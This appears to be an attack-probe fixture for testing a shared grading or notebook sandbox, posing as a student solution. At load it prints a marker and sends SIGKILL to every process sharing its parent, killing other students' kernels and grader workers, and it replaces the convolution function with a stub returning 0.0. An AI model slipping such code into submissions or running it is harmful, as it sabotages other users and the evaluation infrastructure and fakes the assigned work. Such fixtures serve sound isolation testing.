# what: Kills every process that has the same parent: other students' kernels and the workers beside it.
# gains: others
# where: solution
# fires: stdout text `FIRED kill_siblings`
# stock: succeeds

import glob
import os
import re
import signal

print("FIRED kill_siblings", flush=True)
me, parent = os.getpid(), os.getppid()
for file in glob.glob("/proc/[0-9]*/status") if parent > 1 or me < 100 else ():
    try:
        text = open(file).read()
        pid = int(re.search(r"^Pid:\s+(\d+)", text, re.M).group(1))
        if pid != me and re.search(rf"^PPid:\s+{parent}$", text, re.M):
            os.kill(pid, signal.SIGKILL)
    except (OSError, AttributeError):
        pass


def conv_single_step(a_slice_prev, W, b):
    return 0.0
